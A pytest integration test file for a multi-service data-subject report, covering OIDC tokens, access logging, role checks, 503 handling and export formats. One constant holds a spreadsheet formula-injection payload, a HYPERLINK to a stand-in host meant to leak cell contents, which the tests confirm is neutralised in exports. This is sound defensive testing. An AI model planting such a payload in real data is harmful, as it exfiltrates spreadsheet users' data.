"""The data-subject report (issue 14, shared/subject_report.py) with the four services as real HTTP servers on
loopback (werkzeug threads) in AUTH_MODE=oidc, and the development provider (tests/oidc.py, tools/dev_oidc.py: keys,
JWKS, and the token endpoint granting the realm file's `needs` client its client-credentials token, found through
the discovery document). On SQLite and PostgreSQL.

An inspector asks needs; needs reads its own part and asks courses, evaluation and funding for theirs with its own
token (cached until it expires); every read is in the access log of the service read; a peer down or too slow is
a 503 naming it, never a partial report; credentials (link tokens) are never reported; spreadsheet cells are
neutralised."""
from __future__ import annotations

import base64
import io
import json
import socket
import threading
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from werkzeug.serving import make_server

from shared.apidoc import MEDIA_TYPES
from tests.events import make_civil_servant_registered, make_course_completed
from tests.oidc import oidc_settings, provider, start_provider  # noqa: F401 - a fixture
from tests.unit.apps import build_app, deliver, sqlite_url

PEERS = ("courses", "evaluation", "funding")
CLIENT_ID = "needs"
SERVICE_ACCOUNT = "service-account-needs"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Nguyễn Thị Bảo")'


class Counted:
    """The provider's own token endpoint (tools/dev_oidc.py, the realm file's `needs` client and its service
    account with the inspector role), counting the grants it gives and refuses."""

    def __init__(self, provider):
        self.provider, self.grants, self.refused = provider, 0, 0
        grant = provider.grant

        def counted(form, basic):
            try:
                answer = grant(form, basic)
            except Exception:
                self.refused += 1
                raise
            self.grants += 1
            return answer
        provider.grant = counted
        self._original = grant

    def __getattr__(self, name):
        return getattr(self.provider, name)

    def close(self):
        self.provider.grant = self._original


class Served:
    """An app served over HTTP on loopback in a thread."""

    def __init__(self, app):
        self.app = app
        self.server = make_server("127.0.0.1", 0, app, threaded=True)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def stop(self):
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(5)


@pytest.fixture
def idp(provider):
    counted = Counted(provider)
    yield counted
    counted.close()


def _oidc(idp) -> dict:
    return oidc_settings(idp.provider)


def _secret(idp) -> str:
    return idp.provider.realm.clients[CLIENT_ID].secret


@pytest.fixture
def stack(backend, idp):
    """courses, evaluation and funding served on loopback; needs' app (in process) asking them."""
    urls = {svc: backend.migrated(svc) for svc in ("needs", *PEERS)}
    peers = {svc: Served(build_app(svc, urls[svc], migrate=False, **_oidc(idp))) for svc in PEERS}
    needs = build_app("needs", urls["needs"], migrate=False, **_oidc(idp),
                      peer_urls={svc: s.url for svc, s in peers.items()}, peer_timeout_seconds=5.0,
                      oidc_client_id=CLIENT_ID, oidc_client_secret=_secret(idp))
    yield needs, peers, urls
    for served in peers.values():
        served.stop()
        served.app.extensions["service"].engine.dispose()
    needs.extensions["service"].engine.dispose()


def _person(needs, peers, idp) -> str:
    """A civil servant registered in needs (a name that looks like a formula), known to courses and funding
    through needs' event, and a trainee of a completed course in evaluation."""
    body = {"code": "DSR-1", "full_name": HOSTILE_NAME, "gender": "female", "birth_year": 1988,
            "ethnicity": "Kinh", "unit_code": "CM-BIENBACH", "position_code": "VPTK"}
    seeded = needs.test_client().post("/admin/needs/seed", json={"civil_servants": 2}, headers=idp.auth("operator"))
    assert seeded.status_code == 200  # the unit tree and positions (and two other people)
    resp = needs.test_client().post("/api/v1/civil-servants", json=body, headers=idp.auth("training-officer"))
    assert resp.status_code == 201, resp.get_data(as_text=True)[:300]
    person = resp.get_json()["id"]
    registered = make_civil_servant_registered(civil_servant_id=person, commune_code="CM-BIENBACH")[1]
    deliver(peers["courses"].app, registered)
    deliver(peers["funding"].app, registered)
    deliver(peers["evaluation"].app, make_course_completed(participants=[
        {"civil_servant_id": person, "commune_code": "CM-BIENBACH", "sessions_attended": 4, "days_attended": 2,
         "completed": True}])[1])
    return person


def _keys(value) -> set[str]:
    if isinstance(value, dict):
        return set(value) | {k for v in value.values() for k in _keys(v)}
    if isinstance(value, list):
        return {k for v in value for k in _keys(v)}
    return set()


def _access_log(app, idp, **query) -> list[dict]:
    resp = app.test_client().get("/api/v1/access-log", query_string=query,
                                 headers=idp.auth("inspector", audience=app.extensions["service"].settings.service))
    assert resp.status_code == 200
    return resp.get_json()


def test_the_inspector_gets_everything_the_four_services_hold_about_one_person(stack, idp):
    needs, peers, _ = stack
    person = _person(needs, peers, idp)
    client = needs.test_client()
    inspector = {**idp.auth("inspector", subject="insp-7"), "X-Correlation-ID": "dsr-audit-1"}

    resp = client.get(f"/api/v1/data-subjects/{person}/report", headers=inspector)
    assert resp.status_code == 200, resp.get_data(as_text=True)[:500]
    report = resp.get_json()
    assert report["complete"] is True and list(report["services"]) == ["needs", *PEERS]
    sections = {svc: part["sections"] for svc, part in report["services"].items()}
    assert sections["needs"]["civil_servant"][0]["full_name"] == HOSTILE_NAME
    assert sections["needs"]["civil_servant"][0]["birth_year"] == 1988
    assert [r["civil_servant_id"] for r in sections["courses"]["trainee"]] == [person]
    assert [r["civil_servant_id"] for r in sections["funding"]["civil_servant_ref"]] == [person]
    assert len(sections["evaluation"]["feedback_requests"]) == 1
    assert report["record_count"] == sum(len(rows) for s in sections.values() for rows in s.values())
    assert not {k for k in _keys(report) if "token" in k or "link" in k}, "credentials are never reported"

    # needs' token was fetched once (client credentials, through discovery) and reused for the second report
    assert client.get(f"/api/v1/data-subjects/{person}/report?format=xlsx", headers=inspector).status_code == 200
    assert (idp.grants, idp.refused) == (1, 0)

    # every read is in the access log of the service read: the inspector in needs, needs' account in the peers,
    # with the inspector's correlation id
    mine = _access_log(needs, idp, record_id=person, subject="insp-7")
    assert [(e["operation"], e["role"], e["status"], e["record_type"], e["correlation_id"]) for e in mine] == [
        ("GET /api/v1/data-subjects/<civil_servant_id>/report", "inspector", 200, "civil_servant", "dsr-audit-1")] * 2
    for svc in PEERS:
        theirs = _access_log(peers[svc].app, idp, record_id=person, subject=SERVICE_ACCOUNT)
        assert [(e["operation"], e["role"], e["status"], e["correlation_id"]) for e in theirs] == [
            ("GET /api/v1/data-subjects/<civil_servant_id>", "inspector", 200, "dsr-audit-1")] * 2, svc
    # ... and the next report shows who read the person's data before
    again = client.get(f"/api/v1/data-subjects/{person}/report", headers=inspector).get_json()
    assert {e["subject"] for e in again["services"]["courses"]["sections"]["access_log"]} >= {SERVICE_ACCOUNT}


def test_the_spreadsheet_holds_every_service_and_neutralises_formulas(stack, idp):
    from openpyxl import load_workbook
    needs, peers, _ = stack
    person = _person(needs, peers, idp)
    resp = needs.test_client().get(f"/api/v1/data-subjects/{person}/report?format=xlsx",
                                   headers=idp.auth("inspector"))
    assert resp.status_code == 200 and resp.mimetype.endswith("spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(resp.data)).active
    rows = [tuple(c.value for c in row) for row in sheet.iter_rows()]
    names = [r for r in rows if r[3] == "full_name"]
    assert names == [("needs", "civil_servant", 1, "full_name", "'" + HOSTILE_NAME)]
    assert {r[0] for r in rows[3:] if r[0] in ("needs", *PEERS)} == {"needs", *PEERS}
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    csv = needs.test_client().get(f"/api/v1/data-subjects/{person}/report?format=csv", headers=idp.auth("inspector"))
    assert "'=HYPERLINK" in csv.get_data(as_text=True) and "Dịch vụ" in csv.get_data(as_text=True)
    # each format answered with the media type its OpenAPI documents (tests/security/test_openapi_media.py
    # leaves this route to this test: it needs the peers)
    documented = needs.test_client().get("/openapi.json").get_json()["paths"][
        "/api/v1/data-subjects/{civil_servant_id}/report"]["get"]["responses"]["200"]["content"]
    for fmt, answer in (("csv", csv), ("xlsx", resp)):
        assert answer.mimetype == MEDIA_TYPES[fmt] and MEDIA_TYPES[fmt] in documented


def test_each_service_answers_its_own_part_to_the_inspector_only(stack, idp):
    needs, peers, _ = stack
    person = _person(needs, peers, idp)
    courses = peers["courses"].app.test_client()
    part = courses.get(f"/api/v1/data-subjects/{person}", headers=idp.auth("inspector", audience="courses"))
    assert part.status_code == 200 and part.get_json()["service"] == "courses"
    assert part.get_json()["sections"]["enrollments"] == []
    for role in ("training-officer", "commune-officer", "finance-officer", "lecturer", "operator"):
        assert courses.get(f"/api/v1/data-subjects/{person}",
                           headers=idp.auth(role, audience="courses", unit_code="CM-BIENBACH")).status_code == 403
        assert needs.test_client().get(f"/api/v1/data-subjects/{person}/report",
                                       headers=idp.auth(role, unit_code="CM-BIENBACH")).status_code == 403
    assert needs.test_client().get(f"/api/v1/data-subjects/{person}/report").status_code == 401
    spec = needs.test_client().get("/openapi.json").get_json()
    assert spec["paths"]["/api/v1/data-subjects/{civil_servant_id}/report"]["get"]["security"] == [
        {"oidc": ["inspector"]}]
    unknown = needs.test_client().get("/api/v1/data-subjects/00000000-0000-0000-0000-000000000000/report",
                                      headers=idp.auth("inspector"))
    assert unknown.status_code == 404 and unknown.get_json()["errors"]["json"]["civil_servant_id"]
    assert idp.grants == 0  # an unknown person: no peer was asked


def test_a_peer_down_is_a_503_naming_it_never_a_partial_report(stack, idp):
    needs, peers, _ = stack
    person = _person(needs, peers, idp)
    peers["funding"].stop()
    resp = needs.test_client().get(f"/api/v1/data-subjects/{person}/report", headers=idp.auth("inspector"))
    body = resp.get_json()
    assert resp.status_code == 503 and body["code"] == 503 and body["dependency"] == "funding", body
    assert "funding" in body["message"] and list(body["errors"]["dependencies"]) == ["funding"]
    assert "services" not in body and resp.headers["Retry-After"]
    assert needs.test_client().get(f"/api/v1/data-subjects/{person}/report?format=xlsx",
                                   headers=idp.auth("inspector")).status_code == 503


def test_a_peer_too_slow_or_refusing_needs_is_a_503_naming_it(stack, idp, backend):
    needs, peers, urls = stack
    person = _person(needs, peers, idp)
    silent = socket.socket()  # accepts the connection, never answers
    silent.bind(("127.0.0.1", 0))
    silent.listen(8)
    try:
        slow = build_app("needs", urls["needs"], migrate=False, **_oidc(idp), peer_timeout_seconds=1.0,
                         peer_urls={**{s: p.url for s, p in peers.items()},
                                    "evaluation": f"http://127.0.0.1:{silent.getsockname()[1]}"},
                         oidc_client_id=CLIENT_ID, oidc_client_secret=_secret(idp))
        resp = slow.test_client().get(f"/api/v1/data-subjects/{person}/report", headers=idp.auth("inspector"))
        assert resp.status_code == 503 and resp.get_json()["dependency"] == "evaluation"
        slow.extensions["service"].engine.dispose()
    finally:
        silent.close()
    wrong = build_app("needs", urls["needs"], migrate=False, **_oidc(idp),
                      peer_urls={s: p.url for s, p in peers.items()}, oidc_client_id=CLIENT_ID,
                      oidc_client_secret="not-the-secret")
    resp = wrong.test_client().get(f"/api/v1/data-subjects/{person}/report", headers=idp.auth("inspector"))
    assert resp.status_code == 503 and resp.get_json()["dependency"] == "identity_provider"
    assert idp.refused == 1
    wrong.extensions["service"].engine.dispose()


def test_needs_fetches_a_new_token_when_its_token_has_expired(tmp_path):
    own = start_provider()
    own.realm.lifespan = 31  # 31 s with needs' 30 s margin: its token is good for one second
    endpoint = Counted(own)
    try:
        peers = {svc: Served(build_app(svc, sqlite_url(tmp_path / f"{svc}.db"), **_oidc(endpoint))) for svc in PEERS}
        needs = build_app("needs", sqlite_url(tmp_path / "needs.db"), **_oidc(endpoint),
                          peer_urls={s: p.url for s, p in peers.items()}, oidc_client_id=CLIENT_ID,
                          oidc_client_secret=_secret(endpoint))
        person = _person(needs, peers, endpoint)
        import time
        for _ in range(2):
            assert needs.test_client().get(f"/api/v1/data-subjects/{person}/report",
                                           headers=endpoint.auth("inspector")).status_code == 200
            time.sleep(1.2)
        assert endpoint.grants == 2
        for served in peers.values():
            served.stop()
    finally:
        endpoint.close()
        own.close()


def test_in_static_mode_needs_asks_with_the_static_token(tmp_path):
    from tests.unit.apps import API_AUTH
    peers = {svc: Served(build_app(svc, sqlite_url(tmp_path / f"{svc}.db"))) for svc in PEERS}
    try:
        needs = build_app("needs", sqlite_url(tmp_path / "needs.db"), peer_urls={s: p.url for s, p in peers.items()})
        client = needs.test_client()
        person = client.get("/api/v1/civil-servants", headers=API_AUTH).get_json()["items"]
        if not person:
            assert client.post("/admin/needs/seed", json={"civil_servants": 2},
                               headers={"Authorization": "Bearer t-admin"}).status_code == 200
            person = client.get("/api/v1/civil-servants", headers=API_AUTH).get_json()["items"]
        resp = client.get(f"/api/v1/data-subjects/{person[0]['id']}/report", headers=API_AUTH)
        assert resp.status_code == 200 and list(resp.get_json()["services"]) == ["needs", *PEERS]
        entries = peers["funding"].app.test_client().get("/api/v1/access-log", headers=API_AUTH).get_json()
        assert entries[0]["subject"] == "static:api-token" and entries[0]["record_id"] == person[0]["id"]
    finally:
        for served in peers.values():
            served.stop()
